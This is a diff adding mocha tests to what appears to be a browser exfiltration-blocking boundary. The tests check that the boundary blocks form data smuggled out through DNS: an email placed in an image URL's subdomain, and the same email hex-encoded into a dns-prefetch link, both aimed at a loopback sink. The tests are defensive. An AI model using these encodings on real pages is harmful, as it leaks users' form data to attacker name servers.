@@ -144,6 +144,30 @@ describe('what the boundary must let through', function () {
   });
 });
 
+// Round 5: the data in the host name of the address (a DNS lookup carries it to the attacker's
+// name server, whatever the path): a picture, and a dns-prefetch link inserted by markup. The
+// sink answers on *.sink.localhost (loopback in the engines that resolve it).
+describe('data in the host name of an address', function () {
+  this.timeout(20_000);
+  const hosted = (label: string, path = '/p.gif') => sink.url(path).replace('127.0.0.1', `${label}.sink.localhost`);
+  const SENDS: Array<[string, () => void]> = [
+    ["a field's value, its dots as dashes, in a picture's subdomain", () => (new Image().src = hosted('ada-example-com'))],
+    ["a field's value, hex-encoded, in a dns-prefetch link's subdomain", () => document.body.insertAdjacentHTML('beforeend', `<link rel="dns-prefetch" href="${hosted([...'ada@example.com'].map((char) => char.charCodeAt(0).toString(16)).join(''))}">`)],
+  ];
+  for (const [name, send] of SENDS) {
+    it(name, async () => {
+      const run = await attack({ page, setup: onSave(send) });
+      expect(await sink.received(300), 'what reached the other site').to.deep.equal([]);
+      expect(run.blocked.map((detail) => detail.effect?.kind)).to.deep.equal(['request']);
+    });
+  }
+
+  it("a picture from the site's CDN host, or a subdomain naming nothing of the page's, loads", async () => {
+    const run = await attack({ page, setup: onSave(() => (new Image().src = hosted('img-cdn-2', '/cover.jpg'))) });
+    expect(run.blocked).to.deep.equal([]);
+  });
+});
+
 describe('load addresses set on elements already in the page', function () {
   this.timeout(20_000);
   const data = () => sink.url('/p.gif?e=ada@example.com');
